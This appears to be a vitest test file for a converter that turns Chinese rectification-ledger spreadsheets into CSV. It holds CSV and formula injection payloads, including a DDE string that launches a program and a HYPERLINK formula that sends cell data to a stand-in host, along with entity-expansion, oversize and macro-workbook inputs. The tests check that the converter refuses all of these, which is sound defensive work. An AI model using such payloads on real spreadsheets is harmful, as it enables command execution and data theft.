import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import writeXlsx from 'write-excel-file/node';
import { ledgerFromSpreadsheet } from '#lib/content/ledger/ledger-from-spreadsheet';
import { docxWith, zipOf } from '../../../harness/attached-files';
import { textRows, workbookOf } from '../../../harness/spreadsheet';

// A ledger comes out of a spreadsheet as people see it there, and what cannot is said in their words.

const HEAD = ['序号', '问题', '整改进展', '完成状态'];

function rowsOf(bytes: Uint8Array, sheet: string | null = null): string[][] {
  return parse(ledgerFromSpreadsheet(bytes, sheet).csv, { bom: true });
}

function messagesOf(bytes: Uint8Array, sheet: string | null = null): string {
  return ledgerFromSpreadsheet(bytes, sheet).messages.join('\n');
}

/** A workbook of one sheet: a head, and a row whose cells are the given XML. */
function oneRow(cells: string, more: Partial<Parameters<typeof workbookOf>[0]> = {}): Uint8Array {
  const names = [...cells.matchAll(/<c r="[A-Z]+2"/g)].map((_, index) =>
    index === 0 ? '问题' : `列${index}`,
  );
  return workbookOf({ ...more, sheets: [{ rows: `${textRows([names])}<row r="2">${cells}</row>` }] });
}

test('cells of the CSV are named as in the spreadsheet, whatever was left out before them', () => {
  const rows = textRows([
    ['整改台账'],
    ['', '问题', '', '状态'],
    ['', '一、照明'],
    ['', '照明不足', '', '做完了'],
  ]);
  const merged = ['A1:D1', 'B3:D3'];
  const { cellName } = ledgerFromSpreadsheet(workbookOf({ sheets: [{ rows, merged }] }), null);
  expect([cellName(1, 1), cellName(2, 2)]).toEqual(['B2', 'D4']);
});

describe('cells', () => {
  test('share texts, hold their own, and have pieces of different looks', () => {
    const cells =
      '<c r="A2" t="s"><v>0</v></c><c r="B2" t="s"><v>1</v></c><c r="C2" t="inlineStr"><is><r><t>路</t></r><r><t>灯</t></r></is></c>';
    const strings = [
      '<si><t>照明不足</t></si>',
      '<si><r><rPr><b/></rPr><t xml:space="preserve">更换</t></r><r><t>12盏</t></r><rPh sb="0" eb="1"><t>读音</t></rPh></si>',
    ];
    expect(rowsOf(oneRow(cells, { strings }))[1]).toEqual(['照明不足', '更换12盏', '路灯']);
  });

  test('keep their paragraphs, quotation marks and commas', () => {
    const text = '一是更换，"全部",\n二是巡查_x000D_\n三是登记';
    expect(rowsOf(workbookOf({ sheets: [{ rows: textRows([['问题'], [text]]) }] }))[1]).toEqual([
      '一是更换，"全部",\n二是巡查\n三是登记',
    ]);
  });

  test.each([
    [45688, 'yyyy/m/d', '2025-01-31'],
    [45688, 14, '2025-01-31'],
    [45688, 31, '2025-01-31'],
    [45688, '[$-804]yyyy"年"m"月"d"日";@', '2025-01-31'],
    [45688.5, 'yyyy/m/d h:mm', '2025-01-31 12:00'],
    [45809, 57, '2025年6月'],
    [45809, 'yyyy"年"m"月"', '2025年6月'],
    [45809, 'mmm-yy', '2025年6月'],
    [59, 'yyyy-mm-dd', '1900-02-28'],
    [61, 'yyyy-mm-dd', '1900-03-01'],
  ])('give the day %d in the format %s as %s', (serial, format, shown) => {
    const cell = `<c r="A2" s="0"><v>${serial}</v></c>`;
    expect(rowsOf(oneRow(cell, { formats: [format] }))[1]).toEqual([shown]);
  });

  test('count days from 1904 where the workbook does', () => {
    const cell = '<c r="A2" s="0"><v>44226</v></c>';
    expect(rowsOf(oneRow(cell, { formats: ['yyyy/m/d'], is1904: true }))[1]).toEqual(['2025-01-31']);
  });

  test.each([
    [7, '000', '007'],
    [0.123, '0.0%', '12.3%'],
    [1234.5, '#,##0.00', '1,234.50'],
    [1234.5, 4, '1,234.50'],
    [0.30000000000000004, 0, '0.3'],
    [20250000000123, 0, '20250000000123'],
    [4, '"第"0"项"', '第4项'],
    [3, '[没有这样的格式', '3'],
  ])('give the number %d in the format %s as %s', (value, format, shown) => {
    const cell = `<c r="A2" s="0"><v>${value}</v></c>`;
    expect(rowsOf(oneRow(cell, { formats: [format] }))[1]).toEqual([shown]);
  });

  test('have the value of a formula that the spreadsheet computed', () => {
    const cells =
      '<c r="A2" t="str"><f>B2&amp;"项"</f><v>3项</v></c><c r="B2"><f>1+2</f><v>3</v></c><c r="C2" t="b"><f>1=1</f><v>1</v></c>';
    expect(rowsOf(oneRow(cells))[1]).toEqual(['3项', '3', 'TRUE']);
  });

  test.each([
    ['a formula that was never computed', '<c r="A2"><f>1+2</f></c>', /A2 格是公式，文件里没有算出来的值/],
    ['an error', '<c r="A2" t="e"><f>B9</f><v>#REF!</v></c>', /A2 格的值是错误 #REF!/],
    [
      'a text that a spreadsheet would compute in the CSV',
      '<c r="A2" t="inlineStr"><is><t>=1+2</t></is></c>',
      /A2 格的文字像公式：=1\+2/,
    ],
    [
      'a text that would start a program',
      '<c r="A2" t="inlineStr"><is><t>+cmd|\' /C calc\'!A0</t></is></c>',
      /A2 格的文字像公式/,
    ],
  ])('refuse %s with their address', (_, cell, message) => {
    expect(() => rowsOf(oneRow(cell))).toThrow(message);
  });

  const taking = (text: string) => rowsOf(workbookOf({ sheets: [{ rows: textRows([['问题'], [text]]) }] }));

  test.each([
    '+HYPERLINK("http://x/?"&A1)',
    '@SUM(1,2)',
    '＝SUM(1,2)',
    '-2+3',
    '+A1',
    '-$B$2*3',
    '+(A1+1)',
    "+'别的'!A1",
  ])('refuse %s, which a spreadsheet would compute', (text) => {
    expect(() => taking(text)).toThrow(`A2 格的文字像公式：${text}`);
  });

  test.each([
    '-登记不全',
    '-5',
    '-3.5%',
    '-PM2.5超标',
    '-A1区照明不足',
    '+86办公室',
    '@文化站',
    '－一是登记',
  ])('take %s, which is no formula', (text) => {
    expect(taking(text)[1]).toEqual([text]);
  });
});

describe('rows and columns', () => {
  const below = [
    ['1', '照明不足', '已更换', '已完成'],
    ['2', '无人巡查', '', '未完成'],
  ];

  test('begin with the head, below the title', () => {
    const rows = textRows([['某街道整改问题台账'], ['填报单位：某街道'], HEAD, ...below]);
    const bytes = workbookOf({ sheets: [{ rows, merged: ['A1:D1'] }] });
    expect(rowsOf(bytes)).toEqual([HEAD, ...below]);
    expect(messagesOf(bytes)).toContain('表头是表格的第3行，在 ledger.csv 里是第1行');
    expect(messagesOf(bytes)).toContain('表头以上有文字的 2 行没有写进去');
  });

  test('have the value of a merged area in each of its cells', () => {
    const rows = textRows([HEAD, ['1', '照明不足', '已更换', '已完成'], ['2', '', '已加装', '']]);
    expect(rowsOf(workbookOf({ sheets: [{ rows, merged: ['B2:B3', 'D2:D3'] }] }))[2]).toEqual([
      '2',
      '照明不足',
      '已加装',
      '已完成',
    ]);
  });

  test('have their names from the lower row of a head that is two rows high', () => {
    const rows = textRows([['序号', '问题', '落实情况', ''], ['', '', '整改进展', '完成状态'], ...below]);
    const bytes = workbookOf({ sheets: [{ rows, merged: ['A1:A2', 'B1:B2', 'C1:D1'] }] });
    expect(rowsOf(bytes)).toEqual([HEAD, ...below]);
  });

  test('have their names from the lower row where the problems are a group of columns', () => {
    const rows = textRows([
      ['序号', '发现问题', '', '完成状态'],
      ['', '类别', '具体问题', ''],
      ['1', '安全', '甲', '未完成'],
    ]);
    const bytes = workbookOf({ sheets: [{ rows, merged: ['A1:A2', 'B1:C1', 'D1:D2'] }] });
    expect(rowsOf(bytes)).toEqual([
      ['序号', '类别', '具体问题', '完成状态'],
      ['1', '安全', '甲', '未完成'],
    ]);
  });

  test('that were merged over several columns come once', () => {
    const rows = textRows([
      ['序号', '问题', '', '完成状态'],
      ['1', '照明不足', '', '已完成'],
    ]);
    const bytes = workbookOf({ sheets: [{ rows, merged: ['B1:C1', 'B2:C2'] }] });
    expect(rowsOf(bytes)[0]).toEqual(['序号', '问题', '完成状态']);
  });

  test('that name a group across the table are left out, and named', () => {
    const rows = textRows([HEAD, ['一、设施方面'], ...below]);
    const bytes = workbookOf({ sheets: [{ rows, merged: ['A2:D2'] }] });
    expect(rowsOf(bytes)).toEqual([HEAD, ...below]);
    expect(messagesOf(bytes)).toContain('第2行“一、设施方面”');
  });

  test('that the site does not know are kept, and empty ones are not', () => {
    const rows = textRows([
      ['', '问题', '', '牵头领导'],
      ['', '照明不足', '', '某某'],
      ['', '', '', ''],
      ['', '无人巡查', '', ''],
    ]);
    const bytes = workbookOf({ sheets: [{ rows }] });
    expect(rowsOf(bytes)).toEqual([
      ['问题', '牵头领导'],
      ['照明不足', '某某'],
      ['无人巡查', ''],
    ]);
    expect(messagesOf(bytes)).toContain('表格中间的空行有 1 行');
  });

  test('that are hidden are taken, and told of', () => {
    const rows = textRows([HEAD, ...below]).replace('<row r="3">', '<row r="3" hidden="1">');
    const bytes = workbookOf({ sheets: [{ rows, columns: '<col min="3" max="3" hidden="1"/>' }] });
    expect(rowsOf(bytes)).toEqual([HEAD, ...below]);
    expect(messagesOf(bytes)).toMatch(/有 1 行在表格里是隐藏的.*第3行[\s\S]*有 1 列在表格里是隐藏的.*C列/);
  });

  test('without addresses are counted on', () => {
    const rows = textRows([HEAD, ...below])
      .replace(/ r="[A-Z]*\d+"/g, '')
      .replace(/<row><c t="inlineStr"><is><t xml:space="preserve">2<[\s\S]*$/, '');
    expect(rowsOf(workbookOf({ sheets: [{ rows }] }))).toEqual([HEAD, below[0]]);
  });
});

describe('sheets', () => {
  const ledger = (problem: string) => textRows([['问题'], [problem]]);

  test('without a ledger are passed over and named', () => {
    const bytes = workbookOf({
      sheets: [
        { name: '说明', rows: textRows([['填表说明']]) },
        { name: '台账', rows: ledger('照明不足') },
        { name: '底稿', rows: ledger('别的'), state: 'hidden' },
      ],
    });
    expect(rowsOf(bytes)).toEqual([['问题'], ['照明不足']]);
    expect(messagesOf(bytes)).toContain('没有用的工作表：“说明”、“底稿”（隐藏的）');
  });

  test('are asked for where several hold one, and taken by name', () => {
    const bytes = workbookOf({
      sheets: [
        { name: '第一季度', rows: ledger('照明不足') },
        { name: '第二季度', rows: ledger('无人巡查') },
      ],
    });
    expect(() => rowsOf(bytes)).toThrow(/“第一季度”、“第二季度”.*--sheet/);
    expect(rowsOf(bytes, '第二季度')).toEqual([['问题'], ['无人巡查']]);
    expect(() => rowsOf(bytes, '第三季度')).toThrow(/没有叫“第三季度”的工作表.*“第一季度”、“第二季度”/);
  });

  test('that cannot be read are not passed over', () => {
    const bytes = workbookOf({
      sheets: [
        { name: '台账', rows: '<row r="1"><c r="A1"><f>1</f></c></row>' },
        { name: '旧台账', rows: ledger('照明不足') },
      ],
    });
    expect(() => rowsOf(bytes)).toThrow(/工作表“台账”：A1 格是公式.*[\s\S]*--sheet/);
    expect(rowsOf(bytes, '旧台账')[1]).toEqual(['照明不足']);
  });

  test('none of which is a ledger are refused with the names that would do', () => {
    expect(() => rowsOf(workbookOf({ sheets: [{ rows: textRows([['设备', '数量']]) }] }))).toThrow(
      /没有找到台账的表头.*存在问题/,
    );
  });
});

describe('a file is refused', () => {
  const sheets = [{ rows: textRows([['问题']]) }];
  const ole = Uint8Array.from([
    0xd0,
    0xcf,
    0x11,
    0xe0,
    0xa1,
    0xb1,
    0x1a,
    0xe1,
    ...Array<number>(600).fill(0),
  ]);

  test.each<[string, Uint8Array, RegExp]>([
    ['with macros', workbookOf({ sheets, files: { 'xl/vbaProject.bin': 'x' } }), /宏（VBA）.*不带宏/],
    [
      'of the type with macros',
      workbookOf({
        sheets,
        files: {
          '[Content_Types].xml':
            '<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
        },
      }),
      /宏（VBA）/,
    ],
    ['of the old format', ole, /旧格式的 Office 文件.*另存为/],
    [
      'with a password',
      Buffer.concat([ole, Buffer.from('EncryptedPackage', 'utf16le')]),
      /加了密码.*取消密码/,
    ],
    ['that is another document', docxWith('问题'), /而是Word 文档/],
    ['that is text', new TextEncoder().encode('问题,状态\n'), /而是纯文本/],
    ['that holds no workbook', zipOf({ 'xl/workbook.xml': '<workbook/>' }), /已经损坏/],
    [
      'whose XML is broken',
      workbookOf({ sheets, files: { 'xl/sharedStrings.xml': '<sst><si>' } }),
      /已经损坏/,
    ],
    [
      'with entities of its own',
      workbookOf({
        sheets,
        files: {
          'xl/sharedStrings.xml': '<!DOCTYPE sst [<!ENTITY a "aaaa">]><sst><si><t>&a;</t></si></sst>',
        },
      }),
      /已经损坏/,
    ],
    [
      'that unpacks to more than it may',
      workbookOf({ sheets, files: { 'xl/worksheets/sheet1.xml': new Uint8Array(51_000_000) } }),
      /展开以后超过/,
    ],
    ['that is too large', new Uint8Array(20_000_001), /表格文件太大/],
    ...['%E0', 'http://['].map((target): [string, Uint8Array, RegExp] => [
      `that refers to ${target}`,
      workbookOf({
        sheets,
        files: {
          '_rels/.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${target}"/></Relationships>`,
        },
      }),
      /已经损坏/,
    ]),
    ...['0', '1048577', '-1', '1.5', 'x'].map((row): [string, Uint8Array, RegExp] => [
      `with a row ${row}`,
      workbookOf({ sheets: [{ rows: `${textRows([['问题']])}<row r="${row}"/>` }] }),
      /已经损坏/,
    ]),
    [
      'with more merged areas than a ledger has',
      workbookOf({
        sheets: [{ rows: textRows([['问题']]), merged: Array<string>(20_001).fill('B1:C1') }],
      }),
      /合并的单元格太多/,
    ],
    [
      'whose merged areas cover more cells than a ledger has',
      workbookOf({
        sheets: [
          {
            rows: textRows([['问题']]) + textRows([['甲']], 1_048_576),
            merged: ['A1:A1048576'],
          },
        ],
      }),
      /合并的单元格太大/,
    ],
    [
      'whose merged areas repeat a long text',
      workbookOf({
        sheets: [{ rows: textRows([['问题'], ['问'.repeat(200_000)]]), merged: ['A2:CV2'] }],
      }),
      /字太多/,
    ],
    [
      'whose cells repeat a long text',
      workbookOf({
        strings: [`<si><t>${'问'.repeat(200_000)}</t></si>`],
        sheets: [
          {
            rows: Array.from(
              { length: 60 },
              (_, index) => `<row r="${index + 1}"><c t="s"><v>0</v></c></row>`,
            ).join(''),
          },
        ],
      }),
      /字太多/,
    ],
    [
      'with more columns than a ledger may have',
      workbookOf({
        sheets: [{ rows: '<row r="1"><c r="CW1" t="inlineStr"><is><t>问题</t></is></c></row>' }],
      }),
      /列太多：CW1 格/,
    ],
  ])('%s', (_, bytes, message) => {
    expect(() => rowsOf(bytes)).toThrow(message);
  });
});

test('what another program writes as .xlsx is read', async () => {
  const text = (value: string) => ({ value, type: String });
  const date = { value: new Date('2025-06-30T00:00:00Z'), type: Date, format: 'yyyy/mm/dd' };
  const head = ['序号', '问题', '整改时限'].map(text);
  const data = [head, [{ value: 1, type: Number }, text('一是照明不足\n二是无人巡查'), date]];
  expect(rowsOf(await writeXlsx(data, { sheet: '台账' }).toBuffer())).toEqual([
    ['序号', '问题', '整改时限'],
    ['1', '一是照明不足\n二是无人巡查', '2025-06-30'],
  ]);
});

test('what is written as .xlsx comes back as the same cells', () => {
  const line = fc
    .string({ unit: 'grapheme', maxLength: 12 })
    .map((text) => text.replace(/[\p{Cc}\p{Cn}\ufffe\uffff]/gu, ''));
  const cell = fc
    .array(line, { maxLength: 3 })
    .map((lines) => lines.join('\n').trim())
    .filter((text) => !/^[=+\-@＝＋－＠]|_x[0-9A-F]{4}_/i.test(text));
  const row = fc.tuple(fc.integer({ min: 1, max: 999 }).map(String), cell, cell, cell);
  fc.assert(
    fc.property(fc.array(row, { minLength: 1, maxLength: 8 }), (rows) => {
      const table = [['序号', '问题', '整改措施', '牵头领导'], ...rows];
      const { csv } = ledgerFromSpreadsheet(workbookOf({ sheets: [{ rows: textRows(table) }] }), null);
      expect(csv.startsWith('\ufeff')).toBe(true);
      expect(parse(csv, { bom: true })).toEqual(table);
    }),
  );
});
